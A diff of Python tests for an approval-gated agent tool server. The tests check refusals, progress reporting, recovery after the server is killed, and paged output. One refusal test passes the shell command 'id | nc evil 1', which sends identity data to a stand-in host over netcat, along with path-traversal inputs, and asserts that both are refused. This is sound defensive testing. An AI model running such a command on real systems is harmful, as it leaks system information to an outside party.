@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import re
 import signal
@@ -19,6 +20,7 @@ from mcp import Client, StdioServerParameters
 from tests.door_client import approved, daemon, parameters, with_client, with_door
 from tests.plugins.agents.agent_runs import make_run
 from tests.support import Place, make_place, wait_until
+from threegate.core import limits
 from threegate.core.workspace import AgentRun
 from threegate.plugins.agents.runs import RunFacts
 from threegate.plugins.agents.work_copy import WorkCopy
@@ -52,7 +54,7 @@ def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: 
 
     async def work(client: Client) -> None:
         names = [tool.name for tool in (await client.list_tools()).tools]
-        assert names[4:] == DOOR_TOOLS
+        assert names[3:] == DOOR_TOOLS
         call = asyncio.create_task(client.call_tool("run_python", ASK, progress_callback=heard))
         await approved(place, run.inbox)
         ended = answer(await call)
@@ -165,17 +167,21 @@ def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
         said = await client.call_tool("run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."})
         assert said.is_error and answer(said)["status"] == "refused" and answer(said)["fixes"]
         for code in ("import socket\nsocket.socket()", "def f():\n    yield 1\nf()"):
-            said = await client.call_tool("run_python", {**ASK, "code": code})
+            said = await client.call_tool("run_python", {**ASK, "code": code, "where": "monty"})
             told = " ".join(answer(said)["fixes"])
             assert said.is_error and 'use `where: "era"`' in told and "backend" not in told
+            (finding, *_) = answer(said)["findings"]
+            line = 1 if "socket" in code else 2
+            assert (finding["argument"], finding["line"]) == ("code", line) and f"line {line}: " in answer(said)["why"]
         for arguments, words in (
             ({**ASK, "approve": True}, "no argument 'approve' here; known arguments: code"),
             ({**ASK, "time_limit_sec": 1 << 40}, "time_limit_sec: input should be less than"),
             ({"purpose": "x"}, "code: field required"),
-            ({**ASK, "files": ["none.txt"]}, "files: no such file"),
+            ({**ASK, "files": ["none.txt"]}, "files[0]: no such file"),
         ):
             said = await client.call_tool("run_python", arguments)
-            assert said.is_error and said.content[0].text.startswith(words), said
+            assert said.is_error and answer(said)["status"] == "refused", said
+            assert answer(said)["why"].startswith(words), said
 
     with_door(place, run, work)
     assert not list(run.inbox.glob("TR-*.md"))
@@ -230,7 +236,7 @@ def test_taking_back_what_is_signed_and_nothing_of_others(place: Place, run: Age
         for name in ("cancel", "wait", "read_output"):
             more = {"path": "x"} if name == "read_output" else {}
             said = await client.call_tool(name, {"request_id": request, **more})
-            assert said.is_error and "not one of your requests" in said.content[0].text
+            assert said.is_error and "not one of your requests" in answer(said)["why"]
         assert answer(await client.call_tool("requests", {})) == {"requests": []}
 
     async def mine(client: Client) -> None:
@@ -319,6 +325,73 @@ def test_the_permanent_agent_has_the_same_door_for_the_inbox(place: Place) -> No
 
 
 @pytest.mark.slow
+def test_a_server_that_was_killed_is_followed_by_one_that_knows_its_calls(place: Place) -> None:
+    """For the inbox, where nothing but the requester's own folder outlives the server."""
+    inbox = place.root / "inbox"
+    how = parameters(place, None, "--wait-sec", "60")
+    door = subprocess.Popen([how.command, *how.args], cwd=how.cwd, env=how.env, stdin=subprocess.PIPE)
+    assert door.stdin
+    call = {"name": "run_python", "arguments": ASK}
+    door.stdin.write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}).encode() + b"\n")
+    door.stdin.flush()
+    wait_until(lambda: list(inbox.glob("TR-*.md")), "a draft")
+    door.kill()
+    door.wait(20)
+    door.stdin.close()
+    (draft,) = inbox.glob("TR-*.md")
+
+    async def work(client: Client) -> None:
+        (line,) = answer(await client.call_tool("requests", {}))["requests"]
+        assert f"request_id: {line['request_id']}\n" in draft.read_text()
+        waited = asyncio.create_task(client.call_tool("wait", {"request_id": line["request_id"]}))
+        again = asyncio.create_task(client.call_tool("run_python", ASK))
+        await asyncio.to_thread(place.wait_for, "verdicts/*.json")
+        await asyncio.to_thread(place.approve, draft)
+        for ended in (answer(await waited), answer(await again)):
+            assert (ended["request_id"], ended["status"]) == (line["request_id"], "succeeded")
+
+    with daemon(place):
+        with_door(place, None, work)
+    assert len(place.events("claimed")) == 1
+
+
+@pytest.mark.slow
+def test_a_long_output_is_cut_in_the_answer_and_read_page_by_page(place: Place, run: AgentRun) -> None:
+    code = "for n in range(150):\n    print(str(n) + 'x' * 1500)\nopen('/out/long.txt', 'w').write('é' * 60000)\nNone"
+
+    async def pages(client: Client, request: str, path: str) -> str:
+        text, offset = "", 0
+        while offset is not None:
+            part = await client.call_tool("read_output", {"request_id": request, "path": path, "offset": offset})
+            assert len(part.model_dump_json()) <= limits.DOOR_ANSWER_BYTES
+            text, offset = text + answer(part)["text"], answer(part)["next"]
+        return text
+
+    async def work(client: Client) -> None:
+        call = asyncio.create_task(client.call_tool("run_python", {"code": code, "purpose": "Print a lot."}))
+        await approved(place, run.inbox)
+        said = await call
+        assert len(said.model_dump_json()) <= limits.DOOR_ANSWER_BYTES
+        ended = answer(said)
+        assert ended["status"] == "succeeded", ended
+        assert "path #stdout, offset " in ended["stdout_cut"]["rest"] and ended["stdout_cut"]["of"] == 225_489
+        whole = await pages(client, ended["request_id"], "#stdout")
+        assert whole == "\n".join(f"{n}{'x' * 1500}" for n in range(150)) and whole.startswith(ended["stdout"])
+        (row,) = ended["outputs"]
+        assert row["path"] == "long.txt" and "text" not in row
+        assert await pages(client, ended["request_id"], "/out/long.txt") == "é" * 60_000
+        big = answer(
+            await client.call_tool(
+                "read_output", {"request_id": ended["request_id"], "path": "long.txt", "length": 100_001}
+            )
+        )
+        assert (len(big["text"]), big["next"]) == (50_000, 100_000), "a length that is asked for is given"
+
+    with daemon(place):
+        with_door(place, run, work)
+
+
+@pytest.mark.slow
 def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path) -> None:
     project = tmp_path / "project"
     project.mkdir()
@@ -333,7 +406,7 @@ def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path
 
     async def nothing(client: Client) -> None:
         said = await client.call_tool("propose_changes", {"purpose": "Nothing.", "wait_sec": 0})
-        assert said.is_error and "no changes that could be proposed" in said.content[0].text
+        assert said.is_error and "no changes that could be proposed" in answer(said)["why"]
 
     with_door(place, run, nothing)
     (tree / "a.txt").write_text("two\n")
@@ -348,7 +421,7 @@ def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path
         assert other["status"] == "pending" and other["request_id"] != first["request_id"]
         for path in ("../..", "/etc", "a.txt/../../x"):
             said = await client.call_tool("propose_changes", {**arguments, "paths": [path]})
-            assert said.is_error and "\n" not in said.content[0].text
+            assert said.is_error and "\n" not in answer(said)["why"]
 
     with_door(place, run, work)
     texts = sorted(path.read_text() for path in run.inbox.glob("TR-*.md"))
